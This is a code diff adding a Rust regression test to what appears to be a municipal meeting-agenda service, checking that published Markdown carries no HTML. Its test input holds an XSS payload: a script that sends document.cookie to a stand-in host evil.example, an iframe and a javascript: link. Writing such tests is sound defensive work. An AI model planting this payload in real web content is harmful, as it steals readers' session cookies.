@@ -15,6 +15,7 @@ db_tests!(
     what_a_reader_is_shown_moves_only_when_it_may_see_the_change,
     rotating_a_clients_secret_ends_the_tokens_it_got,
     the_audit_trail_shows_removal_from_either_end,
+    published_markdown_carries_no_html,
 );
 
 /// A POST answered 503 because the database went away mid-request created nothing, and its
@@ -310,4 +311,29 @@ fn stored_hash(app: &TestApp, seq: i64) -> String {
         }
     };
     stored.into_iter().next().expect("a sealed record").hash
+}
+
+/// The Markdown renderings carry no HTML: a municipality's website that renders the published
+/// Markdown runs no script put into an item's text, whoever reads it. (Before, `<script>` and
+/// `<iframe>` came out unchanged, also to anonymous readers of a public committee.)
+fn published_markdown_carries_no_html(app: &TestApp) {
+    let c = fixtures::committee(app, "Direktionen", "public");
+    let m = fixtures::id(&fixtures::meeting(app, &c, "2022-04-25T12:30:00+02:00"));
+    let summary = "Orientering <script>fetch('https://evil.example/'+document.cookie)</script>\n\n\
+                   <iframe src=\"https://evil.example/\"></iframe>\n\n[Læs mere](javascript:alert(1))";
+    fixtures::item(app, &c, m, json!({"title": "Eventuelt", "summary": summary}));
+    fixtures::act(app, &c.secretary, m, "publish-agenda", json!({})).expect(201);
+    for (path, token) in [
+        (format!("/v1/public/meetings/{m}/published/agenda/1/markdown"), None),
+        (format!("/v1/meetings/{m}/published/agenda/1/markdown"), Some(&c.member)),
+    ] {
+        let request = Request::new("GET", &path);
+        let markdown = app.call(if let Some(token) = token { request.token(token) } else { request }).expect(200).body;
+        let mut html = String::new();
+        pulldown_cmark::html::push_html(&mut html, pulldown_cmark::Parser::new(&markdown));
+        for element in ["<script", "<iframe", "javascript:"] {
+            assert!(!html.contains(element), "{path}: {element} in {html}");
+        }
+        assert!(html.contains("Orientering"), "{html}");
+    }
 }
